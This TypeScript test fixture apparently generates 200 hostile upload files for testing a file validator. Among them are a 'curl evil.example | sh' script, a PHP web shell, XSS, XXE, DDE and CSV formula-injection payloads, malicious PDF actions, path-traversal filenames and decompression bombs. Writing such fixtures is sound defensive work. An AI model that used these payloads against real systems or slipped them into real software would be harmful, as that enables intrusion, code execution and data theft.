// 200 files as an attacker sends them: each lies about what it is, is broken, or contains what somebody's program would run.
import { strToU8, zipSync } from 'fflate';
import { deflateSync } from 'node:zlib';
import { officeFile, officeParts, pdfFile, pictureFile, type PictureFormat } from './good-files.ts';

export type HostileFile = {
  readonly name: string;
  readonly content: Buffer;
  /** It may be stored, made anew: without what makes it hostile. */
  readonly isMadeAnew?: true;
};

const script = '<script>alert(document.cookie)</script>';
const html = Buffer.from(`<!doctype html><html><body>${script}</body></html>`);
const svg = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`,
);
const program = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(600, 0x90),
  Buffer.from('This program cannot be run'),
]);
const elf = Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(300)]);
const shell = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n');
const php = Buffer.from('<?php system($_GET["c"]); ?>');
const gzip = Buffer.concat([Buffer.from('1f8b0800', 'hex'), Buffer.alloc(100, 7)]);
const javaClass = Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(64)]);

const pictures = ['jpeg', 'png', 'webp', 'gif', 'avif'] as const satisfies readonly PictureFormat[];
const bound = ['jpg', 'png', 'webp', 'gif', 'avif', 'pdf', 'docx', 'xlsx'] as const;

/** A PNG that says that it has this size. */
function pngOf(width: number, height: number, rows = Buffer.alloc(64)): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc(body));
    return Buffer.concat([length, body, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function crc(data: Buffer): number {
  let value = 0xffffffff;
  for (const byte of data) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit += 1) value = (value >>> 1) ^ (value & 1 ? 0xedb88320 : 0);
  }
  return (value ^ 0xffffffff) >>> 0;
}

const gifOf = (width: number, height: number): Buffer => {
  const head = Buffer.alloc(13);
  head.write('GIF89a', 'latin1');
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  return Buffer.concat([head, Buffer.from('2c00000000', 'hex'), Buffer.alloc(20), Buffer.from(';')]);
};

const object = (content: string) => pdfFile(`4 0 obj\n<< ${content} >>\nendobj\n`);

/** Objects that are compressed together, as new programs write them. */
const compressedObject = (content: string): Buffer => {
  const packed = deflateSync(Buffer.from(`5 0 << ${content} >>`)).toString('latin1');
  return pdfFile(
    `4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj\n`,
  );
};

const activePdfs = [
  '/S /JavaScript /JS (app.alert(1))',
  '/OpenAction << /S /JavaScript /JS (app.launchURL("https://evil.example")) >>',
  '/S /J#61vaScript /J#53 (app.alert(1))',
  '/S /Launch /F (cmd.exe)',
  '/Names << /EmbeddedFiles 9 0 R >>',
  '/Type /EmbeddedFile',
  '/AcroForm << /XFA 9 0 R >>',
  '/Subtype /RichMedia',
  '/S /ImportData /F (data.fdf)',
  '/S /SubmitForm /F (https://evil.example)',
  '/Encrypt 9 0 R',
];

const external = (type: string, target: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

const macroTypes = {
  docx: 'application/vnd.ms-word.document.macroEnabled.main+xml',
  xlsx: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
} as const;

const hostileParts = (end: 'docx' | 'xlsx'): Record<string, string | Uint8Array>[] => {
  const folder = end === 'docx' ? 'word' : 'xl';
  return [
    { [`${folder}/vbaProject.bin`]: new Uint8Array(64) },
    { [`${folder}/activeX/activeX1.xml`]: '<x/>' },
    { [`${folder}/embeddings/oleObject1.bin`]: new Uint8Array(64) },
    { [`${folder}/media/run.exe`]: new Uint8Array(program) },
    { [`${folder}/media/page.html`]: html.toString() },
    { [`${folder}/media/picture.svg`]: svg.toString() },
    { [`${folder}/_rels/settings.xml.rels`]: external('attachedTemplate', 'https://evil.example/t.dotm') },
    { [`${folder}/_rels/document.xml.rels`]: external('oleObject', 'https://evil.example/o') },
    { [`${folder}/_rels/frame.xml.rels`]: external('frame', 'file://evil.example/share') },
    {
      [`${folder}/lol.xml`]: '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;">]><a>&lol1;</a>',
    },
    { [`${folder}/xxe.xml`]: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' },
    { [`${folder}/field.xml`]: '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>' },
    { [`${folder}/externalLinks/externalLink1.xml`]: '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>' },
    { '../../etc/cron.d/run': 'x' },
    { '/etc/passwd': 'x' },
    { '..\\..\\run.txt': 'x' },
    { [`${folder}/bomb.xml`]: new Uint8Array(60_000_000) },
  ];
};

function officeFiles(end: 'docx' | 'xlsx'): HostileFile[] {
  const good = officeFile(end);
  const named = (content: Buffer, index: number) => ({ name: `list ${index}.${end}`, content });
  const types = Buffer.from(officeParts(end)['[Content_Types].xml'] ?? '').toString();
  const main =
    end === 'docx' ? /application\/[^"]*document\.main\+xml/ : /application\/[^"]*sheet\.main\+xml/;
  const lying = Buffer.from(good);
  // The directory says that each part has no bytes.
  for (let at = lying.indexOf('504b0102', 0, 'hex'); at >= 0; at = lying.indexOf('504b0102', at + 4, 'hex'))
    lying.writeUInt32LE(1, at + 24);
  return [
    ...hostileParts(end).map((more) => officeFile(end, more)),
    officeFile(end, { '[Content_Types].xml': types.replace(main, macroTypes[end]) }),
    good.subarray(0, good.length - 30),
    good.subarray(0, 100),
    Buffer.from(zipSync({ 'run.js': strToU8(script) })),
    Buffer.from(
      zipSync(Object.fromEntries(Array.from({ length: 2_500 }, (_, one) => [`x/${one}`, strToU8('')]))),
    ),
    lying,
  ]
    .map(named)
    .concat([{ name: `before.${end}`, content: Buffer.concat([html, good]) }]);
}

/** Always 200. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  const good = Object.fromEntries(
    await Promise.all(pictures.map(async (format) => [format, await pictureFile(format)] as const)),
  ) as Record<PictureFormat, Buffer>;
  const endOf = (format: PictureFormat) => (format === 'jpeg' ? 'jpg' : format);
  const disguised = [html, svg, program, elf, shell, php, gzip, javaClass].flatMap((content, index) =>
    bound.map((end): HostileFile => ({ name: `photo ${index}.${end}`, content })),
  );
  const wrong = pictures.flatMap((format) =>
    bound
      .filter((end) => end !== endOf(format))
      .slice(0, 4)
      .map((end): HostileFile => ({ name: `a ${format}.${end}`, content: good[format] })),
  );
  const polyglots = pictures.flatMap((format): HostileFile[] => [
    { name: `behind.${endOf(format)}`, content: Buffer.concat([good[format], html]), isMadeAnew: true },
    {
      name: `zip behind.${endOf(format)}`,
      content: Buffer.concat([good[format], officeFile('docx')]),
      isMadeAnew: true,
    },
    { name: `before.${endOf(format)}`, content: Buffer.concat([html, good[format]]) },
    { name: `cut.${endOf(format)}`, content: good[format].subarray(0, Math.floor(good[format].length / 2)) },
    { name: `cut early.${endOf(format)}`, content: good[format].subarray(0, 20) },
  ]);
  const sizes = [
    [65_535, 65_535],
    [2_147_483_647, 2_147_483_647],
    [100_000, 1_000],
    [1, 100_000_000],
    [0, 0],
    [7_072, 7_072],
  ].map(([width = 0, height = 0], index): HostileFile => ({
    name: `huge ${index}.png`,
    content: pngOf(width, height),
  }));
  const names = [
    '../../../etc/passwd.png',
    '..\\..\\windows\\system32\\run.png',
    '/etc/cron.d/run.png',
    'C:\\autoexec.png',
    'photo.php.png',
    'photo.png\r\nset-cookie: a=b.png',
    'photo"; filename="run.exe.png',
    '\u202Egnp.exe.png',
    '.htaccess.png',
    `${'long'.repeat(200)}.png`,
    '<img src=x onerror=alert(1)>.png',
    'CON.png',
  ].map((name): HostileFile => ({ name, content: good.png, isMadeAnew: true }));
  const pdfs = [
    ...activePdfs.map(object),
    ...activePdfs.map(compressedObject),
    pdfFile().subarray(0, 150),
    Buffer.concat([html, pdfFile()]),
    Buffer.concat([pdfFile(), officeFile('docx')]),
    Buffer.concat([pdfFile(), Buffer.alloc(5_000, 0x20)]),
  ].map((content, index): HostileFile => ({ name: `drawing ${index}.pdf`, content }));
  const texts: HostileFile[] = [
    { name: 'program.txt', content: program },
    { name: 'nul.txt', content: Buffer.from('a\0b') },
    { name: 'pdf.txt', content: pdfFile() },
    { name: 'picture.csv', content: good.png },
    { name: 'page.txt', content: html, isMadeAnew: true },
    ...[
      '=cmd|"/c calc"!A1',
      '+1+cmd|" /C calc"!A0',
      '-2+3+cmd|" /C calc"!A0',
      '@SUM(1+1)*cmd|" /C calc"!A0',
      '\t=1+1',
    ].map((cell, index): HostileFile => ({
      name: `table ${index}.csv`,
      content: Buffer.from(`name,price\n"${cell.replaceAll('"', '""')}",1\n`),
      isMadeAnew: true,
    })),
  ];
  const all = [
    ...names,
    ...sizes,
    // Its only frame is empty: the canvas that it announces is never made.
    { name: 'huge.gif', content: gifOf(65_535, 65_535), isMadeAnew: true as const },
    ...polyglots,
    ...pdfs,
    ...officeFiles('docx'),
    ...officeFiles('xlsx'),
    ...texts,
    ...wrong,
    ...disguised,
  ];
  return all.slice(0, 200);
}
